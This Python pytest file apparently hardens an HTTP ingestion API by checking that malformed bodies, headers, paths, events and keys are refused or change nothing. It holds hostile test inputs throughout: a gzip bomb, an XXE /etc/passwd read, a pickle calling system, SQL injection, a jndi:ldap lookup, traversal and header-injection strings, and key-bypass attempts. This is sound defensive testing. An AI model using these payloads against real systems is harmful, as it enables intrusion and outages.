"""Bodies, headers, paths and events that were bent by hand, over real HTTP: each is refused in words or taken whole."""

import base64
import gzip
import json
import zlib
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPException
from typing import Any
from urllib.parse import quote

import pytest

from handlers.http import MOST_BYTES
from tests.hostile.figures import FIGURES
from tests.hostile.gateway import KEY, Told
from tests.hostile.served import Served

JSON = ("Content-Type", "application/json")
LINES = ("Content-Type", "application/x-ndjson")
ONE = b'{"id":1}'
MEGABYTE = 1 << 20
BOMB = gzip.compress(b'{"id":1,"place":{"city":"' + b"0" * (200 * MEGABYTE) + b'"}}')


def named(city: bytes) -> bytes:
    return b'{"id":1,"place":{"city":"' + city + b'"}}'


# --- bodies ----------------------------------------------------------------------------------------------------------------------------

BODIES: dict[str, tuple[bytes, int, str]] = {
    "5 MB": (named(b"x" * (MOST_BYTES - 28)), 202, ""),
    "a byte more": (named(b"x" * (MOST_BYTES - 27)), 413, "body_too_large"),
    "6 MB and more, Lambda's limit": (named(b"x" * (6 * MEGABYTE + 1)), 413, "body_too_large"),
    "just below API Gateway's limit": (named(b"x" * (10 * MEGABYTE - 100)), 413, "body_too_large"),
    "above API Gateway's limit": (named(b"x" * (10 * MEGABYTE)), 413, ""),
    "5 MB of blank space": (b" " * MOST_BYTES, 400, "malformed_body"),
    "a gzip bomb that says nothing of it": (BOMB, 400, "malformed_body"),
    "gzip that says nothing of it": (gzip.compress(ONE), 400, "malformed_body"),
    "latin-1": (named(b"Z\xfcrich"), 400, "malformed_body"),
    "UTF-16": (ONE.decode().encode("utf-16"), 400, "malformed_body"),
    "UTF-16 without a mark": (ONE.decode().encode("utf-16-le"), 400, "malformed_body"),
    "UTF-32": (ONE.decode().encode("utf-32"), 400, "malformed_body"),
    "half a character": (named(b"\xc3"), 400, "malformed_body"),
    "overlong": (named(b"\xc0\xaf"), 400, "malformed_body"),
    "half a surrogate pair in UTF-8": (named(b"\xed\xa0\x80"), 400, "malformed_body"),
    "half a surrogate pair, escaped": (named(b"\\ud800"), 422, "records_refused"),
    "an astral character": (named("\U0010fffd".encode()), 202, ""),
    "NUL": (b"\0", 400, "malformed_body"),
    "NUL in a text": (named(b"\0"), 400, "malformed_body"),
    "NUL, escaped": (named(b"\\u0000"), 202, ""),
    "NUL behind it": (ONE + b"\0", 400, "malformed_body"),
    "a byte order mark": (b"\xef\xbb\xbf" + ONE, 202, ""),
    "two byte order marks": (b"\xef\xbb\xbf\xef\xbb\xbf" + ONE, 400, "malformed_body"),
    "10,000 levels": (b'{"id":1,"place":' + b"[" * 10_000 + b"]" * 10_000 + b"}", 400, "malformed_body"),
    "1,000,000 levels": (b'{"id":1,"place":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}", 400, "malformed_body"),
    "1,000,000 levels of objects, open": (b'{"a":' * 900_000, 400, "malformed_body"),
    "1,000,000 levels of arrays, open": (b"[" * 1_000_000, 400, "malformed_body"),
    "101 levels": (b'{"id":1,"place":' + b'{"a":' * 100 + b"1" + b"}" * 100 + b"}", 400, "malformed_body"),
    "1e999": (b'{"id":1e999}', 422, "records_refused"),
    "-1e999": (b'{"id":1,"amount":-1e999}', 422, "records_refused"),
    "1e-999": (b'{"id":1,"amount":1e-999}', 422, "records_refused"),
    "an exponent of a billion": (b'{"id":1e1000000000}', 422, "records_refused"),
    "a million digits": (b'{"id":' + b"9" * 1_000_000 + b"}", 422, "records_refused"),
    "a million decimals": (b'{"id":1,"amount":0.' + b"1" * 1_000_000 + b"}", 422, "records_refused"),
    "2^63": (b'{"id":9223372036854775808}', 422, "records_refused"),
    "2^63 - 1": (b'{"id":9223372036854775807}', 202, ""),
    "NaN": (b'{"id":NaN}', 400, "malformed_body"),
    "Infinity": (b'{"id":1,"amount":Infinity}', 400, "malformed_body"),
    "-Infinity": (b'{"id":1,"amount":-Infinity}', 400, "malformed_body"),
    "NaN as a text": (b'{"id":1,"amount":"NaN"}', 422, "records_refused"),
    "a key twice": (b'{"id":1,"id":2}', 422, "records_refused"),
    "a key twice, once escaped": (b'{"id":1,"\\u0069d":2}', 422, "records_refused"),
    "__proto__": (b'{"id":1,"__proto__":{"id":2}}', 422, "records_refused"),
    "constructor": (b'{"id":1,"constructor":{"prototype":{"id":2}}}', 422, "records_refused"),
    "__class__": (b'{"id":1,"__class__":"x"}', 422, "records_refused"),
    "our own columns": (b'{"id":1,"_source":"x","_row":1,"_source_time":"x"}', 422, "records_refused"),
    "1,000,000 empty objects": (b"[" + b"{}," * 999_999 + b"{}]", 413, "too_much"),
    "10,000 empty objects": (b"[" + b"{}," * 9_999 + b"{}]", 422, "records_refused"),
    "an empty array": (b"[]", 400, "malformed_body"),
    "an array of arrays": (b"[[],[]]", 422, "records_refused"),
    "an array in an array": (b'[[{"id":1}]]', 422, "records_refused"),
    "an array of texts": (b'["a","b"]', 422, "records_refused"),
    "null": (b"null", 400, "malformed_body"),
    "an array of null": (b"[null]", 422, "records_refused"),
    "nothing": (b"", 400, "malformed_body"),
    "two bodies": (ONE + b'{"id":2}', 400, "malformed_body"),
    "a comment": (b'{"id":1}// x', 400, "malformed_body"),
    "a form": (b"id=1", 400, "malformed_body"),
    "XML that reads a file": (b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', 400, "malformed_body"),
    "a pickle": (b"\x80\x04\x95cposix\nsystem\n", 400, "malformed_body"),
    "SQL": (b'{"id":"1\'; drop table readings; --"}', 422, "records_refused"),
    "a key of 1 MB": (b'{"id":1,"' + b"k" * MEGABYTE + b'":1}', 422, "records_refused"),
    "100,000 keys": (b"{" + b",".join(b'"k%d":1' % n for n in range(100_000)) + b"}", 422, "records_refused"),
    "a bad one in each place": (b'[{"id":"x"},{"amount":1},{"id":null},{"id":1,"amount":-1}]', 422, "records_refused"),
}  # fmt: skip


@pytest.mark.parametrize("name", BODIES)
def test_a_body_is_taken_whole_or_refused_in_words(api: Served, name: str) -> None:
    body, status, code = BODIES[name]
    told = api.post(body, JSON)
    assert told.status == status, told.text[:1000]
    assert (told.code if "error" in told.body else "") == code
    if status == 422:
        assert all(receipt["violations"] or receipt["omitted"] for receipt in told.body["receipts"])
    FIGURES.count("http", "bodies")


@pytest.mark.parametrize("name", [name for name in BODIES if BODIES[name][1] == 400])
def test_a_body_that_is_no_json_is_no_lines_either(api: Served, name: str) -> None:
    told = api.post(BODIES[name][0], LINES, query="?partial=true")
    if told.status == 202:
        assert told.body["accepted"] == 1
        assert name in {"two byte order marks"} or told.body["records"] > 1
    assert told.status in (202, 400, 422), told.text[:500]
    FIGURES.count("http", "bodies")


def test_where_all_are_bad_but_one_the_one_is_taken_if_that_is_asked_for(api: Served) -> None:
    body = b'[{"id":"x"},{"amount":1},{"id":77001},[],null]'
    assert api.post(body, JSON).status == 422
    told = api.post(body, JSON, query="?partial=true")
    assert (told.status, told.body["accepted"], [receipt["accepted"] for receipt in told.body["receipts"]].index(True)) == (202, 1, 2)
    FIGURES.count("http", "bodies", 2)


def test_a_record_s_values_are_told_to_nobody_else(api: Served) -> None:
    assert api.post(named(b"s3cr3t"), JSON, ("Idempotency-Key", "mine")).status == 202
    for told in (
        api.post(named(b"other"), JSON, ("Idempotency-Key", "mine")),
        api.post(b'{"id":"x"}', JSON),
        api.ask("GET", "/v1/datasets/readings"),
        api.ask("GET", "/v1/datasets"),
    ):
        assert "s3cr3t" not in told.text
    FIGURES.count("http", "bodies", 5)


# --- headers ---------------------------------------------------------------------------------------------------------------------------

REFUSED: dict[str, tuple[list[tuple[str, str | bytes]], bytes, int]] = {
    "gzip": ([JSON, ("Content-Encoding", "gzip")], gzip.compress(ONE), 415),
    "a gzip bomb": ([JSON, ("Content-Encoding", "gzip")], BOMB, 415),
    "gzip that was cut": ([JSON, ("Content-Encoding", "gzip")], gzip.compress(ONE)[:-9], 415),
    "gzip that is none": ([JSON, ("Content-Encoding", "gzip")], ONE, 415),
    "gzip of gzip": ([JSON, ("Content-Encoding", "gzip, gzip")], gzip.compress(gzip.compress(ONE)), 415),
    "gzip in capitals": ([JSON, ("CONTENT-ENCODING", "GZIP")], gzip.compress(ONE), 415),
    "deflate": ([JSON, ("Content-Encoding", "deflate")], zlib.compress(ONE), 415),
    "brotli": ([JSON, ("Content-Encoding", "br")], b"\x0b\x03\x80", 415),
    "zstd": ([JSON, ("Content-Encoding", "zstd")], b"\x28\xb5\x2f\xfd", 415),
    "an encoding of nobody's": ([JSON, ("Content-Encoding", "x" * 5_000)], ONE, 415),
    "identity, then gzip": ([JSON, ("Content-Encoding", "identity"), ("Content-Encoding", "gzip")], ONE, 415),
    "no type": ([], ONE, 415),
    "an empty type": ([("Content-Type", "")], ONE, 415),
    "two types": ([JSON, ("Content-Type", "text/csv")], ONE, 415),
    "CSV": ([("Content-Type", "text/csv")], b"id\n1\n", 415),
    "a form": ([("Content-Type", "application/x-www-form-urlencoded")], b"id=1", 415),
    "a form of parts": ([("Content-Type", "multipart/form-data; boundary=x")], b'--x\r\n\r\n{"id":1}\r\n--x--', 415),
    "any JSON": ([("Content-Type", "application/vnd.api+json")], ONE, 415),
    "a type that is long": ([("Content-Type", "application/json" + "x" * 9_000)], ONE, 415),
    "a type in bytes": ([("Content-Type", b"application/\xff\xfe")], ONE, 415),
    "latin-1": ([("Content-Type", "application/json; charset=latin-1")], named("ü".encode("latin-1")), 415),
    "UTF-16": ([("Content-Type", "application/json; charset=utf-16")], '{"id":1}'.encode("utf-16"), 415),
    "UTF-7": ([("Content-Type", "application/json;charset=utf-7")], b"+AHs-", 415),
    "a charset twice": ([("Content-Type", "application/json; charset=latin-1; charset=utf-8")], ONE, 415),
    "UTF-8 that is none": ([("Content-Type", "application/json; charset=utf-8")], named(b"\xff"), 400),
    "an empty key": ([JSON, ("Idempotency-Key", "")], ONE, 400),
    "a key of 10 kB": ([JSON, ("Idempotency-Key", "k" * 10_000)], ONE, 400),
    "a key of 256": ([JSON, ("Idempotency-Key", "k" * 256)], ONE, 400),
    "a key in UTF-8": ([JSON, ("Idempotency-Key", "schlüssel")], ONE, 400),
    "a key in bytes": ([JSON, ("Idempotency-Key", b"\xff\xfe")], ONE, 400),
    "a key with a space": ([JSON, ("Idempotency-Key", "a b")], ONE, 400),
    "a key with NUL": ([JSON, ("Idempotency-Key", "a\0b")], ONE, 400),
    "a key with a tab": ([JSON, ("Idempotency-Key", "a\tb")], ONE, 400),
}
"""What is refused: headers, body, status."""


@pytest.mark.parametrize("name", REFUSED)
def test_headers_that_lie_are_refused_in_words(api: Served, name: str) -> None:
    headers, body, status = REFUSED[name]
    told = api.post(body, *headers) if headers else api.ask("POST", "/v1/datasets/readings/records", (), body)
    assert told.status == status, told.text
    FIGURES.count("http", "headers")


HARMLESS: dict[str, tuple[str, str | bytes]] = {
    "identity": ("Content-Encoding", "identity"),
    "no encoding": ("Content-Encoding", ""),
    "a key that climbs": ("Idempotency-Key", "../../../etc/passwd"),
    "a key that is a path": ("Idempotency-Key", "/tmp/x"),
    "a key that is SQL": ("Idempotency-Key", "';drop/**/table/**/readings;--"),
    "a key of 255": ("Idempotency-Key", "k" * 255),
    "a key in percents": ("Idempotency-Key", "..%2f..%00"),
    "a key that is a pattern": ("Idempotency-Key", "*"),
    "a method in its place": ("X-HTTP-Method-Override", "DELETE"),
    "another method": ("X-Method-Override", "PUT"),
    "a third method": ("X-HTTP-Method", "TRACE"),
    "forwarded for": ("X-Forwarded-For", "127.0.0.1, ::1, '; drop table readings; --"),
    "forwarded host": ("X-Forwarded-Host", "evil.example"),
    "forwarded protocol": ("X-Forwarded-Proto", "file"),
    "forwarded": ("Forwarded", 'for="_x";host=evil;proto=gopher'),
    "the original address": ("X-Original-URL", "/v1/datasets/orders"),
    "rewritten": ("X-Rewrite-URL", "/health"),
    "another user": ("X-Amzn-Oidc-Identity", "root"),
    "a trace": ("X-Amzn-Trace-Id", "Root=1;Sampled=1;" + "x" * 2_000),
    "a request id": ("X-Amzn-RequestId", "s3cr3t" * 10),
    "none match": ("If-None-Match", "*"),
    "match": ("If-Match", '"x"'),
    "modified": ("If-Modified-Since", "Sat, 29 Oct 2044 19:43:31 GMT"),
    "unmodified": ("If-Unmodified-Since", "yesterday"),
    "a range": ("Range", "bytes=0-,0-,0-"),
    "accept": ("Accept", "text/html;q=9, */*;q=-1"),
    "accept an encoding": ("Accept-Encoding", "gzip;q=1.0, bomb"),
    "a cookie": ("Cookie", 'a="; b=\x01; =; $Version=1; ' + "c=d; " * 1_000),
    "an origin": ("Origin", "null"),
    "preflight": ("Access-Control-Request-Method", "DELETE"),
    "a referer": ("Referer", "javascript:alert(1)"),
    "an agent": ("User-Agent", "${jndi:ldap://x/a}<script>"),
    "basic authorization": ("Authorization", "Basic " + base64.b64encode(b"a:b").decode()),
    "a bearer": ("Authorization", "Bearer " + "x" * 10_000),
    "authorization in bytes": ("Authorization", b"\xff\xfe"),
    "none": ("Authorization", "null"),
    "a header of 50 kB": ("X-Long", "x" * 50_000),
    "a name of 10 kB": ("X-" + "n" * 10_000, "x"),
    "__proto__": ("__proto__", "x"),
    "an underscore": ("idempotency_key", "a b"),
    "UTF-8": ("X-Utf", "\U0001f600"),
    "expectation": ("X-Expect", "100-continue"),
}
"""What says nothing that the API listens to, or nothing wrong: the record lands."""


@pytest.mark.parametrize("name", HARMLESS)
def test_other_headers_change_nothing(api: Served, name: str) -> None:
    told = api.post(ONE, JSON, HARMLESS[name])
    assert (told.status, told.body["accepted"]) == (202, 1)
    assert not {"Access-Control-Allow-Origin", "Location", "Set-Cookie", "ETag"} & told.headers.keys()
    assert api.ask("GET", "/v1/datasets/readings", (HARMLESS[name],)).status == 200
    FIGURES.count("http", "headers", 2)


def framed(*head: bytes, body: bytes = ONE) -> bytes:
    usual = (b"Host: lake", b"x-api-key: " + KEY.encode(), b"Content-Type: application/json", b"Connection: close")
    return b"\r\n".join([b"POST /v1/datasets/readings/records HTTP/1.1", *usual, *head, b"", body])


FRAMES: dict[str, bytes] = {
    "shorter than it says": framed(b"Content-Length: 999"),
    "longer than it says": framed(b"Content-Length: 4"),
    "a length of nothing": framed(b"Content-Length: 0"),
    "a negative length": framed(b"Content-Length: -1"),
    "a length in words": framed(b"Content-Length: eight"),
    "a length with a sign": framed(b"Content-Length: +8"),
    "a length of 10^30": framed(b"Content-Length: 1" + b"0" * 30),
    "a length of 9 GB": framed(b"Content-Length: 9000000000"),
    "two lengths": framed(b"Content-Length: 8", b"Content-Length: 4"),
    "no length": framed(),
    "pieces that are none": framed(b"Transfer-Encoding: chunked"),
    "a piece that is cut": framed(b"Transfer-Encoding: chunked", body=b"8\r\n" + ONE[:3]),
    "a piece of a negative size": framed(b"Transfer-Encoding: chunked", body=b"-8\r\n" + ONE + b"\r\n0\r\n\r\n"),
    "a line break in a header": framed(b"X-A: a\r\nX-B: b\r\n\tc", b"Content-Length: 4"),
    "only a return": framed(b"X-A: a\rX-B: b", b"Content-Length: 4"),
    "a header without a name": framed(b": x", b"Content-Length: 4"),
    "a header without a colon": framed(b"nonsense", b"Content-Length: 4"),
    "200 headers": framed(*(b"X-%d: x" % n for n in range(200)), b"Content-Length: 4"),
    "a header of 100 kB": framed(b"X-Long: " + b"x" * 100_000, b"Content-Length: 4"),
    "a path of 100 kB": b"GET /" + b"x" * 100_000 + b" HTTP/1.1\r\nHost: lake\r\n\r\n",
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "HTTP of another time": b"GET /health HTTP/9.9\r\n\r\n",
}
"""None of them is a whole record: the server in front takes or refuses them, and neither lands anything."""


@pytest.mark.parametrize("name", FRAMES)
def test_a_request_whose_frame_lies_lands_nothing(api: Served, name: str) -> None:
    before = api.world.keys("raw/")
    try:
        told = api.gateways[0].send(FRAMES[name])
    except (OSError, HTTPException):  # it hung up, or answered as HTTP began
        told = Told(400, {}, "{}")
    assert 400 <= told.status < 500 or told.status == 505, told
    assert api.world.keys("raw/") == before
    assert api.ask("GET", "/health").status == 200
    FIGURES.count("http", "frames")


# --- paths, parameters, methods ------------------------------------------------------------------------------------------------------

NAMES = [
    "..%2f", "..%2f..%2fetc%2fpasswd", "%2e%2e", "..", ".", "%00", "readings%00", "readings%0a", "readings%0d%0aX-A:%20b", "%20readings",
    "readings%20",
    "READINGS", "Readings", "re%61dings%2f", "readings'", "readings%22", "readings;", "readings%27;%20drop%20table%20readings;%20--",
    "quarantine.readings",
    "r%C3%A9adings", quote("ｒｅａｄｉｎｇｓ"), quote("\u202esgnidaer"), "%ff%fe", "%c0%ae%c0%ae", "%", "%zz", "*", "readings*",
    "[readings]",
    "~", "-rf", "__proto__", "None",
    "null", "0", "x" * 5_000, "%F0%9F%98%80", "readings@1", "readings%3Fpartial%3Dtrue", "readings%23", "readings%5C",
    "$%7Bjndi:ldap://x%7D", "_", "<script>",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES, ids=lambda name: name[:30])
def test_a_dataset_is_called_by_its_name_alone(api: Served, name: str) -> None:
    for told in (
        api.post(ONE, JSON, to=name),
        api.post(ONE, JSON, ("Idempotency-Key", "climbs"), to=name),
        api.ask("GET", f"/v1/datasets/{name}"),
        api.ask("HEAD", f"/v1/datasets/{name}/records"),
    ):
        assert told.status in (404, 405), told
    FIGURES.count("http", "paths", 4)


@pytest.mark.parametrize(
    "path",
    [
        "/", "//", "/v1", "/v1/", "/v1//datasets", "/v1/datasets/", "/v1/datasets/readings/", "/v1/datasets/readings/records/",
        "/v2/datasets", "/V1/datasets",
        "/v1/datasets/readings/records/1", "/v1/datasets/readings/../readings", "/.git/config", "/.env", "/etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/openapi.yaml", "/docs", "/swagger", "/health/", "/Health", "/health%00", "/health;x=1", "/favicon.ico", "/_api/x",
        "/latest/meta-data",
    ],
)  # fmt: skip
def test_a_path_that_is_none_is_told_so(api: Served, path: str) -> None:
    for method in ("GET", "POST", "DELETE"):
        assert api.ask(method, path, (JSON,), ONE if method == "POST" else b"").code == "no_such_path"
    FIGURES.count("http", "paths", 3)


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("?partial=yes", 400), ("?partial=", 400), ("?partial", 400), ("?partial=TRUE", 400), ("?partial=true&partial=false", 400),
        ("?partial=%00", 400),
        ("?partial=true,true", 400), ("?partial=%ff", 400), ("?partial=" + "x" * 5_000, 400), ("?partial=true%0d%0aX-A:b", 400),
        ("?partial=1", 400),
        ("?partial=true", 202), ("?partial=false", 202), ("?p%61rtial=true", 202), ("?PARTIAL=x", 202), ("?partial[]=x", 202),
        ("?x=1&x=2&" + "y=z&" * 1_000, 202),
        ("?;'--", 202), ("?__proto__[partial]=x", 202), ("?=", 202), ("?&&&", 202), ("?%ff=%fe", 202), ("?a=%", 202),
        ("??partial=x", 202), ("?x=../..", 202),
    ],
)  # fmt: skip
def test_a_parameter_is_what_it_may_be_or_refused(api: Served, query: str, status: int) -> None:
    told = api.post(ONE, JSON, query=query)
    assert told.status == status, told.text
    assert status == 202 or told.code == "bad_parameter"
    FIGURES.count("http", "parameters")


@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "X" * 1_000, "HEAD", "OPTIONS"])
def test_a_method_that_is_none_is_told_what_is(api: Served, method: str) -> None:
    path = "/v1/datasets/readings/records"
    told = api.ask(method, path, (JSON,), ONE)
    assert told.status == (204 if method == "OPTIONS" else 405)
    assert told.headers["Allow"] == "OPTIONS, POST"
    assert KEY not in told.text
    asked = api.ask(method, "/v1/datasets", (JSON, ("X-HTTP-Method-Override", "DELETE")), ONE)
    assert asked.status == {"GET": 200, "HEAD": 200, "OPTIONS": 204}.get(method, 405)
    FIGURES.count("http", "methods", 2)


# --- who may ---------------------------------------------------------------------------------------------------------------------------

KEYS: dict[str, list[tuple[str, str | bytes]]] = {
    "none": [("x-api-key", "")],
    "another": [("x-api-key", "x")],
    "in capitals": [("x-api-key", KEY.upper())],
    "cut": [("x-api-key", KEY[:-1])],
    "and more": [("x-api-key", KEY + "x")],
    "twice": [("x-api-key", KEY), ("x-api-key", KEY)],
    "right, then wrong": [("x-api-key", KEY), ("X-API-KEY", "x")],
    "wrong, then right": [("x-api-key", "x"), ("X-API-KEY", KEY)],
    "10 kB": [("x-api-key", "x" * 10_000)],
    "UTF-8": [("x-api-key", "ключ")],
    "bytes": [("x-api-key", b"\xff\xfe")],
    "NUL behind it": [("x-api-key", KEY + "\0")],
    "NUL before it": [("x-api-key", "\0" + KEY)],
    "in quotes": [("x-api-key", f'"{KEY}"')],
    "with a scheme": [("x-api-key", f"Bearer {KEY}")],
    "a pattern": [("x-api-key", "*")],
    "None": [("x-api-key", "None")],
    "JSON": [("x-api-key", '{"$ne":null}')],
    "SQL": [("x-api-key", "' or '1'='1")],
    "as authorization": [("x-api-key", ""), ("Authorization", KEY)],
    "as a bearer": [("x-api-key", ""), ("Authorization", f"Bearer {KEY}")],
    "as a cookie": [("x-api-key", ""), ("Cookie", f"x-api-key={KEY}")],
    "under another name": [("x-api-key", ""), ("x_api_key", KEY), ("api-key", KEY), ("x-apikey", KEY)],
    "forwarded": [("x-api-key", ""), ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-User", "admin")],
}


@pytest.mark.parametrize("name", KEYS)
def test_nobody_comes_in_but_who_has_the_key(api: Served, name: str) -> None:
    before = api.world.keys("raw/")
    paths = ("/v1/datasets", "/v1/datasets/readings", "/health", "/openapi.json", "/nothing")
    asked = [("POST", "/v1/datasets/readings/records"), *(("GET", path) for path in paths), ("OPTIONS", "/health"), ("HEAD", "/health")]
    for method, path in asked:
        told = api.ask(method, path, (JSON, *KEYS[name]), ONE if method == "POST" else b"")
        assert told.status in (401, 403)
        assert told.text in ("", '{"message": "Unauthorized"}', '{"message": "Forbidden"}')
    told = api.ask("GET", f"/health?x-api-key={KEY}", tuple(KEYS[name]))
    assert told.status in (401, 403)
    assert api.world.keys("raw/") == before
    FIGURES.count("http", "keys", 9)


# --- events ----------------------------------------------------------------------------------------------------------------------------


def event(**parts: Any) -> dict[str, Any]:
    http = {"method": "POST", "path": "/v1/datasets/readings/records"}
    made = {
        "version": "2.0",
        "routeKey": "$default",
        "rawPath": http["path"],
        "rawQueryString": "",
        "headers": {"content-type": "application/json"},
    }
    return {**made, "requestContext": {"http": http, "stage": "$default"}, "isBase64Encoded": False, **parts}


def context(**parts: Any) -> dict[str, Any]:
    return event(requestContext={**event()["requestContext"], **parts})


EVENTS: dict[str, tuple[Any, int]] = {
    "plain text, marked as base 64": (event(body='{"id":1}', isBase64Encoded=True), 400),
    "base 64, not marked": (event(body=base64.b64encode(ONE).decode()), 400),
    "base 64 twice": (event(body=base64.b64encode(base64.b64encode(ONE)).decode(), isBase64Encoded=True), 400),
    "base 64 of a URL": (event(body=base64.urlsafe_b64encode(b'{"id":1,"place":"\xfb\xff\xfe"}').decode(), isBase64Encoded=True), 400),
    "base 64 without its end": (event(body=base64.b64encode(ONE).decode().rstrip("="), isBase64Encoded=True), 400),
    "base 64 over lines": (event(body=base64.encodebytes(ONE).decode(), isBase64Encoded=True), 400),
    "base 64 of 12 MB": (event(body=base64.b64encode(named(b"x" * 9_000_000)).decode(), isBase64Encoded=True), 413),
    "half a surrogate pair": (event(body='{"id":1,"x":"\ud800"}'), 400),
    "no body": (event(), 400),
    "null": (None, 400), "an array": ([], 400), "a text": ("x", 400), "a number": (5, 400), "nothing": ({}, 400),
    "format 1.0": ({"version": "1.0", "httpMethod": "POST", "path": "/health", "headers": {}, "multiValueHeaders": {}, "body": '{"id":1}',
                    "requestContext": {"httpMethod": "POST", "stage": "prod", "authorizer": None}}, 400),
    "a load balancer's": ({"httpMethod": "GET", "path": "/health", "requestContext": {"elb": {"targetGroupArn": "x"}}, "headers": {}}, 400),
    "a queue's": ({"Records": [{"eventSource": "aws:sqs", "body": "{}"}]}, 400),
    "a socket's": ({"requestContext": {"connectionId": "x", "routeKey": "$connect", "stage": "x"}}, 400),
    "no path": ({name: part for name, part in event().items() if name != "rawPath"}, 400),
    "no context": ({name: part for name, part in event().items() if name != "requestContext"}, 400),
    "a path of another kind": (event(rawPath=["/health"]), 400), "headers of another kind": (event(headers=[["a", "b"]]), 400),
    "a header of many": (event(headers={"content-type": ["application/json"]}), 400), "a header of none": (event(headers={"a": None}), 400),
    "parameters of another kind": (event(queryStringParameters="partial=true"), 400),
    "a parameter of many": (event(queryStringParameters={"partial": ["true"]}), 400),
    "a body of another kind": (event(body={"id": 1}), 400),
    "a mark of another kind": (event(body='{"id":1}', isBase64Encoded="false"), 400), "no http": (context(http=None), 400),
    "no method": (context(http={"path": "/health"}), 400), "a method of another kind": (context(http={"method": ["GET"]}), 400),
    "no stage": (context(stage=None), 400), "an authorizer of another kind": (context(authorizer="x"), 400),
    "a caller of another kind": (context(authorizer={"iam": "x"}), 400), "no headers": (event(headers=None, body='{"id":1}'), 415),
    "a method in small letters": (context(http={"method": "post", "path": "/"}), 400), "an empty path": (event(rawPath=""), 404),
    "another stage": (context(stage="prod"), 404),
}  # fmt: skip


@pytest.mark.parametrize("name", EVENTS)
def test_an_event_that_lies_is_told_so(api: Served, name: str) -> None:
    made, status = EVENTS[name]
    before = api.world.keys("raw/")
    answer = api.gateways[0].invoke("api", made)
    assert answer.get("statusCode") == status, answer
    assert answer["headers"]["Content-Type"] == "application/json"
    api.assert_decent(Told(status, answer["headers"], answer["body"]))
    assert api.world.keys("raw/") == before
    FIGURES.count("http", "events")


@pytest.mark.parametrize(
    "made",
    [
        None, [], "x", 5, True, {}, {"headers": None}, {"headers": []}, {"headers": "x"}, {"headers": {"x-api-key": None}},
        {"headers": {"x-api-key": [KEY]}},
        {"headers": {"x-api-key": {"a": KEY}}}, {"headers": {"x-api-key": True}}, {"headers": {"x-api-key": ""}},
        {"headers": {"X-Api-Key": "x"}},
        {"headers": {"x-api-key": KEY, "X-API-KEY": KEY}}, {"headers": {"authorization": KEY}}, {"multiValueHeaders": {"x-api-key": [KEY]}},
        {"authorizationToken": KEY, "type": "TOKEN", "methodArn": "*"}, {"identitySource": [KEY]},
        {"queryStringParameters": {"x-api-key": KEY}}, {"body": KEY},
        {"headers": {"x-api-key": "\ud800"}}, {"headers": {"x-api-key": "x" * 5_000_000}}, {"headers": {"x-api-key": KEY + "\0"}},
        {"isAuthorized": True},
    ],
    ids=lambda made: json.dumps(made)[:50],
)  # fmt: skip
def test_the_authorizer_lets_no_such_event_in(api: Served, made: Any) -> None:
    assert api.gateways[0].invoke("authorize", made) == {"isAuthorized": False}
    FIGURES.count("http", "events")


# --- one key, many requests ------------------------------------------------------------------------------------------------------------


def at_once(api: Served, bodies: Iterable[bytes], key: str) -> list[Told]:
    """Send them to both processes at the same time, with one idempotency key."""

    def send(numbered: tuple[int, bytes]) -> Told:
        number, body = numbered
        return api.gateways[number % 2].ask("POST", "/v1/datasets/notes/records", (JSON, ("Idempotency-Key", key)), body)

    with ThreadPoolExecutor(8) as pool:
        told = list(pool.map(send, enumerate(bodies)))
    for one in told:
        api.assert_decent(one)
    return told


@pytest.mark.parametrize("turn", range(5))
def test_a_request_that_is_sent_many_times_at_once_lands_once(api: Served, turn: int) -> None:
    told = at_once(api, [b'{"id":%d}' % (80_000 + turn)] * 8, f"same-{turn}")
    assert {one.status for one in told} <= {202, 409}
    assert len({one.body["key"] for one in told if one.status == 202}) == 1
    assert all(one.headers["Retry-After"] for one in told if one.status == 409)
    FIGURES.count("http", "idempotency", 8)


@pytest.mark.parametrize("turn", range(5))
def test_of_different_requests_with_one_key_at_once_one_lands(api: Served, turn: int) -> None:
    told = at_once(api, [b'{"id":%d}' % (90_000 + 10 * turn + n) for n in range(8)], f"others-{turn}")
    assert sorted(one.status for one in told) in ([202] + [422] * 7, *([202] + [409] * n + [422] * (7 - n) for n in range(8)))
    assert {one.code for one in told if one.status == 422} <= {"idempotency_key_reused"}
    FIGURES.count("http", "idempotency", 8)


# --- and then --------------------------------------------------------------------------------------------------------------------------


def test_after_all_of_it_the_lake_holds_what_was_accepted_once_and_nothing_else(api: Served) -> None:
    assert api.assert_exactly_what_was_accepted() > 0
    assert api.gateways[0].most_memory() < 1769 * MEGABYTE / 2, "half of what the function has"
